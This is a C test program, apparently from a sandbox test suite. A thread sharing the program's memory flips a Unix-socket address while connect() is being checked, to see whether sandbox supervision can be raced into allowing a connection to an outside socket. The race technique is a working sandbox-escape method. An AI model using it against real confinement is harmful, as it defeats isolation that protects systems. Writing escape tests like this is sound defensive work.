/* Changes the address of a connect while it is looked at: a process beside its maker shares its memory, and would go unseen. */
#define _GNU_SOURCE
#include <errno.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

static struct sockaddr_un address;
static char own[108], theirs[108];
static volatile int stop;

static int flips(void *unused) {
    (void)unused;
    for (long turn = 0; !stop && turn < 200000000L; turn++) memcpy(address.sun_path, turn % 2 ? own : theirs, 108);
    return 0;
}


static int tries(const char *what) {
    for (int turn = 0; turn < 2000; turn++) {
        int fd = socket(AF_UNIX, SOCK_DGRAM, 0);
        if (connect(fd, (struct sockaddr *)&address, sizeof address) == 0) {
            struct sockaddr_un peer;
            socklen_t length = sizeof peer;
            getpeername(fd, (struct sockaddr *)&peer, &length);
            if (!strncmp(peer.sun_path, theirs, strlen(theirs))) return printf("ESCAPED %s\n", what);
        }
        struct iovec part = {"from inside", 11};
        struct msghdr message = {&address, sizeof address, &part, 1, 0, 0, 0};
        sendmsg(fd, &message, MSG_DONTWAIT);
        close(fd);
    }
    return printf("refused %s\n", what);
}

int main(void) {
    const char *outside = getenv("OUTSIDE_DATAGRAM"), *home = getenv("HOME");
    if (!outside || !home || strlen(outside) > 107) return puts("skipped: no OUTSIDE_DATAGRAM"), 0;
    strcpy(theirs, outside);
    snprintf(own, sizeof own, "%s/own", home);
    address.sun_family = AF_UNIX;
    strcpy(address.sun_path, own);
    int listener = socket(AF_UNIX, SOCK_DGRAM | SOCK_NONBLOCK, 0);
    if (bind(listener, (struct sockaddr *)&address, sizeof address) < 0) return perror("bind"), 1;
    char *stack = mmap(0, 1 << 16, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    if (clone(flips, stack + (1 << 16), CLONE_VM | CLONE_PARENT, 0) >= 0) tries("a race beside itself");
    else printf("refused a process beside itself %d\n", errno);
    stop = 1;
    fflush(stdout);
    return 0;
}
